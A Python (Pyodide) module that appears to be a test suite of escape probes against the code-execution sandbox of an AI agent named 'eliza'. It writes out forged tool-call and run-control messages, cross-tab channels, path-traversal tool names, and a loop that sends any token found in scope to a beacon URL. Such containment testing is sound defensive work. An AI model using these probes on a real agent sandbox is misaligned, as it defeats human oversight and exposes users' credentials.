"""Routes to pages and their identity: forged messages, channels between tabs, borrowed names and tokens."""

import asyncio

import js
from pyodide.ffi import create_proxy, to_js


def options(**values):
    return to_js(values, dict_converter=js.Object.fromEntries)


async def message_of_the_scope(beacon, mark):
    js.postMessage(options(forged=mark))


async def message_of_self(beacon, mark):
    js.self.postMessage(options(forged=mark))


async def message_by_the_prototype(beacon, mark):
    scope = js.globalThis
    while not js.Object.hasOwn(scope, "postMessage"):
        scope = js.Object.getPrototypeOf(scope)
    js.Object.getOwnPropertyDescriptor(scope, "postMessage").value.call(js.globalThis, options(forged=mark))


async def forged_tool_call(beacon, mark):
    call = options(
        type="tool-call", runId="another", callId=0, tool="browse_web", argumentsJson="{}", forged=mark
    )
    js.postMessage(call)


async def forged_end_of_a_run(beacon, mark):
    js.self.postMessage(options(type="run-ended", runId="another", forged=mark))


async def forged_start(beacon, mark):
    js.globalThis.postMessage(options(type="boot-ended", error=None, forged=mark))


async def shared_memory_for_the_page(beacon, mark):
    memory = js.SharedArrayBuffer.new(8)
    js.Atomics.store(js.Int32Array.new(memory), 0, 1)
    js.postMessage(options(forged=mark, memory=memory))


async def given_memory_for_the_page(beacon, mark):
    memory = js.ArrayBuffer.new(8)
    js.postMessage(options(forged=mark, memory=memory), to_js([memory]))


async def port_for_the_page(beacon, mark):
    channel = js.MessageChannel.new()
    js.postMessage(options(forged=mark, port=channel.port2), to_js([channel.port2]))


async def channel_between_tabs(beacon, mark):
    js.BroadcastChannel.new("escapes").postMessage(mark)


async def channel_of_the_log(beacon, mark):
    js.BroadcastChannel.new("eliza-log").postMessage(mark)


async def channel_by_reflection(beacon, mark):
    channel = js.Reflect.construct(js.Reflect.get(js.globalThis, "BroadcastChannel"), to_js(["escapes"]))
    js.BroadcastChannel.prototype.postMessage.call(channel, mark)


async def poisoned_prototype_of_ports(beacon, mark):
    channel = js.MessageChannel.new()
    post = js.MessagePort.prototype.postMessage
    js.BroadcastChannel.new("escapes").postMessage(mark)
    post.call(channel.port1, mark)


async def message_of_a_worker_below(beacon, mark):
    code = f"new BroadcastChannel('escapes').postMessage({mark!r})"
    js.Worker.new(f"data:text/javascript,fetch({beacon!r});{code}")
    await asyncio.sleep(0.1)


async def overheard_messages(beacon, mark):
    js.self.addEventListener("message", create_proxy(lambda event: js.postMessage(options(forged=mark))))
    js.self.dispatchEvent(js.MessageEvent.new("message", options(data=options(id=-1))))


async def replaced_listener(beacon, mark):
    before = js.self.onmessage
    js.self.onmessage = create_proxy(lambda event: js.postMessage(options(forged=mark)))
    js.self.dispatchEvent(js.MessageEvent.new("message", options(data=options(id=-1))))
    js.self.onmessage = before


async def session_of_this_machine(beacon, mark):
    await js.fetch(beacon.split("/beacon")[0] + f"/auth/local-session?{mark}", options(method="POST"))


async def rows_of_the_database(beacon, mark):
    await js.fetch(beacon.split("/beacon")[0] + f"/rest/v1/eliza_python_executions?{mark}")


async def function_without_a_tool(beacon, mark):
    await js.fetch(beacon.split("/beacon")[0] + f"/functions/v1/{mark}", options(method="POST"))


async def tool_nobody_defined(beacon, mark):
    """Shows nothing: an unprotected worker has no tools."""
    await sent(mark, '{"url": "/"}')


async def tool_of_a_prototype(beacon, mark):
    """Shows nothing: an unprotected worker has no tools."""
    for name in ("__proto__", "constructor", "toString"):
        await sent(name, f'{{"function_name": "{mark}"}}')


async def function_outside_of_its_folder(beacon, mark):
    """Shows nothing: an unprotected worker has no tools."""
    for path in (f"../../rest/v1/{mark}", f"..%2F{mark}", f"echoes/../{mark}", f"echoes?{mark}", f"//{mark}"):
        await sent("invoke_function", json_of(function_name=path, payload={}))


async def arguments_that_are_no_text(beacon, mark):
    """Shows nothing: an unprotected worker has no tools."""
    await sent(options(toString=mark), options(function_name=mark))


async def tokens_in_reach(beacon, mark):
    """Shows nothing: an unprotected worker has no session to look for."""
    from eliza_tools.bridge import _post

    for owner in (_post, js, js.globalThis):
        for name in dir(owner):
            if "token" in name.lower():
                await sent("browse_web", json_of(url=f"{beacon}/{getattr(owner, name)}"))


def sent(tool, arguments):
    """The reply to come, past the methods of `tools` and what they check."""
    from eliza_tools.bridge import Exchange

    return Exchange(tool, arguments).__enter__().reply


def json_of(**values):
    return js.JSON.stringify(options(**values))
